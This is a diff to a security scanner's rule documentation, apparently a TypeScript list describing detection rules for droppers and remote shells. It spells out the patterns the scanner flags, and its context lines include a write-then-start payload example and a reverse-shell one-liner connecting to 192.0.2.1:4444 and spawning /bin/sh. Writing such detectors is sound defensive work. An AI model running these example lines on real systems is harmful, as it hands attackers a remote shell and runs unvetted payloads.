@@ -468,7 +468,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      'Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself.',
+      "Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself, and for an executable a function writes from text it downloads and decodes (hex, base64): a dropper's first stage even before anything starts it.",
     example: 'open(path, "wb").write(payload); os.startfile(path)',
     falsePositives: 'Installers that generate and run helper scripts.',
   },
@@ -478,7 +478,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell.',
+      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell; a web handler (flask, bottle, fastapi, tornado, aiohttp, http.server, ...) that hands a shell a command line read from the request (a web shell); a shell handed command lines that come from an HTTP reply (a loop polling its controller).',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
     falsePositives:
       "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design).",
